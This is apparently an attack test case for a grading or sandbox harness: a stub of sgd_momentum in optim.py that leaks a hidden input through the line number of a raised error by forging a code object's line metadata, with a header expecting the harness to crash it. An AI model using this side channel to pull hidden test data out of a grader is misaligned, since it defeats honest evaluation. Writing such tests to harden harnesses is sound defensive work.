# /// attack
# file = "optim.py"
# modes = "any"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Carries a hidden input out as the number of the line in which an error happened."""


def sgd_momentum(w, dw, config=None):
    number = 313373 * 1000 + int(abs(dw.flat[0]) * 100)
    code = compile("raise ValueError", "optim.py", "exec")
    exec(code.replace(co_firstlineno=number, co_linetable=b"\xe0\x00\x00" * 8))
